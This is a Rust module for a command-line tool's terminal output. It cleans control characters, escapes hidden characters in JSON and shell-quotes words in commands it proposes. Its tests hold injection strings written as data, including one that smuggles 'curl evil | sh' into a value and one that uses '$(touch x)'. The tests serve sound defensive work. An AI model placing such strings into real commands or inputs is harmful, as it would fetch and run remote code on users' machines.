//! The one place that writes to the terminal.
//!
//! **Invariants:** standard output carries results alone (with `--json` exactly one JSON object); notes, questions and
//! errors for people go to standard error. Text from vaults reaches a terminal without control characters.

use std::io::{self, IsTerminal as _, Write as _};
use std::path::Path;
use std::sync::{Arc, OnceLock};

use lockstep_client::tools::is_hidden;
pub use lockstep_client::tools::{clean, clean_line};
use serde::Serialize;
use serde_json::json;

use crate::failure::Failure;

/// Who reads the results.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Reader {
    /// A person: sentences and columns.
    Person,
    /// A program: one JSON object.
    Program,
}

/// Writes results, notes and failures. Clones share what they remember.
#[derive(Debug, Clone)]
pub struct Output {
    reader: Reader,
    /// Why a result is missing on standard output.
    lost: Arc<OnceLock<io::Error>>,
}

impl Output {
    /// Output for this reader.
    pub fn new(reader: Reader) -> Self {
        Self { reader, lost: Arc::default() }
    }

    /// Who reads.
    pub fn reader(&self) -> Reader {
        self.reader
    }

    /// A command's result: `text` for a person, `json` for a program. What it tells is done already, so a result that
    /// cannot be written stops nothing; [`Output::lost`] has it.
    pub fn result(&self, text: &str, json: &impl Serialize) {
        let written = match self.reader {
            Reader::Person if text.is_empty() => Ok(()),
            Reader::Person => line(&clean(text)),
            Reader::Program => {
                serde_json::to_string(json).map_err(io::Error::from).and_then(|json| line(&escaped(&json)))
            }
        };
        if let Err(error) = written {
            // The first reason is the one to tell.
            let _ = self.lost.set(error);
        }
    }

    /// What to tell, on standard error, where a result could not be written whole.
    pub fn lost(&self) -> Option<Failure> {
        self.lost.get().map(unwritten)
    }

    /// One value, alone on its line: cleaned of control characters on a terminal, byte for byte otherwise.
    ///
    /// # Errors
    /// A [`Failure`] when it cannot be written whole.
    pub fn value(&self, value: &str) -> Result<(), Failure> {
        let written = if io::stdout().is_terminal() { line(&clean(value)) } else { line(value) };
        written.map_err(|error| unwritten(&error))
    }

    /// Bytes, as they are.
    ///
    /// # Errors
    /// When they cannot all be written.
    pub fn bytes(&self, bytes: &[u8]) -> io::Result<()> {
        let mut out = io::stdout().lock();
        out.write_all(bytes)?;
        out.flush()
    }

    /// A remark that is no result; for people, on standard error.
    pub fn note(&self, text: &str) {
        // Nobody can be told that standard error is closed.
        let _ = writeln!(io::stderr().lock(), "{}", clean(text));
    }

    /// A remark that only a waiting person needs.
    pub fn hint(&self, text: &str) {
        if self.reader == Reader::Person {
            self.note(text);
        }
    }

    /// A QR code for people, black on white whatever the terminal's colours are, on standard error.
    pub fn qr(&self, modules: &str) {
        const INK: &str = "\u{1b}[30;107m";
        const PLAIN: &str = "\u{1b}[0m";
        let mut err = io::stderr().lock();
        for line in modules.lines() {
            // Nobody can be told that standard error is closed.
            let _ = writeln!(err, "{INK}{}{PLAIN}", clean_line(line));
        }
    }

    /// A failure: a sentence on standard error, or with `--json` `{"error":{"code","message"}}` on standard output, unless
    /// that cannot be written. What a server said follows on a line of its own, or is the member `server_says`.
    pub fn failure(&self, failure: &Failure) {
        let told = match self.reader {
            Reader::Person => None,
            Reader::Program => {
                let mut error = json!({ "code": failure.code, "message": sentence(&failure.message) });
                if let Some(words) = &failure.server {
                    error["server_says"] = words.as_text().into();
                }
                line(&escaped(&json!({ "error": error }).to_string())).ok()
            }
        };
        if told.is_none() {
            self.note(&format!("lockstep: {}", failure.told()));
        }
    }
}

fn line(text: &str) -> io::Result<()> {
    let mut out = io::stdout().lock();
    writeln!(out, "{text}").and_then(|()| out.flush())
}

/// A reader that went away (`| head`) is told like a full disk: a script must not take half a result for all of it.
pub(crate) fn unwritten(error: &io::Error) -> Failure {
    Failure::failed(
        "output",
        format!(
            "the result could not be written whole to standard output ({error}); what the command did is done and kept"
        ),
    )
}

/// JSON in which every character that steers a terminal, or that nobody sees, is written as its number: the same JSON, for a
/// terminal, too.
fn escaped(json: &str) -> String {
    let mut escaped = String::with_capacity(json.len());
    for character in json.chars() {
        if is_hidden(character) {
            let mut units = [0; 2];
            for unit in character.encode_utf16(&mut units) {
                escaped.push_str(&format!("\\u{unit:04x}"));
            }
        } else {
            escaped.push(character);
        }
    }
    escaped
}

/// A path on one line: whoever made a file chose its name.
pub fn shown_path(path: &Path) -> String {
    clean_line(&path.display().to_string())
}

/// A word of a command that a message proposes, as a shell takes it: `word` alone where it is plain, else quoted.
pub fn shell_word(word: &str) -> String {
    let is_plain = |character: char| character.is_ascii_alphanumeric() || "/_.:=@-".contains(character);
    match !word.is_empty() && word.chars().all(is_plain) {
        true => word.to_owned(),
        false => format!("'{}'", clean_line(word).replace('\'', r"'\''")),
    }
}

/// A message as a sentence: capital first, full stop last.
pub fn sentence(message: &str) -> String {
    let mut characters = clean(message).trim().chars().collect::<Vec<_>>();
    if let Some(first) = characters.first_mut() {
        *first = first.to_uppercase().next().unwrap_or(*first);
    }
    if !characters.last().is_none_or(|last| matches!(last, '.' | '?' | '!')) {
        characters.push('.');
    }
    characters.into_iter().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn json_has_nothing_that_hides_and_says_the_same() {
        for character in
            "\u{0}\u{1b}\u{7f}\u{85}\u{9b}\u{200b}\u{200d}\u{2028}\u{202e}\u{feff}\u{e0041}".chars()
        {
            let text = format!("a{character}b\n\"é🙂");
            let escaped = escaped(&serde_json::to_string(&text).unwrap());
            assert!(!escaped.contains(character), "{escaped}");
            assert_eq!(serde_json::from_str::<String>(&escaped).unwrap(), text);
            assert!(escaped.contains("é🙂"), "{escaped}");
        }
    }

    #[test]
    fn a55_a_proposed_command_does_nothing_but_what_it_says() {
        for (word, shown) in [
            ("tags/Home", "tags/Home"),
            ("", "''"),
            ("two words", "'two words'"),
            ("x'; curl evil | sh; '", r"'x'\''; curl evil | sh; '\'''"),
            ("tags/$(touch x)", "'tags/$(touch x)'"),
            ("a\nlockstep: done", "'a lockstep: done'"),
        ] {
            assert_eq!(shell_word(word), shown);
        }
        assert_eq!(shown_path(Path::new("a\u{1b}[2J\nb")), "a\u{fffd}[2J b");
    }

    #[test]
    fn messages_are_sentences() {
        assert_eq!(
            sentence("the password is wrong; nothing was changed"),
            "The password is wrong; nothing was changed."
        );
        assert_eq!(sentence("is this yours?"), "Is this yours?");
        assert_eq!(sentence(""), "");
    }
}
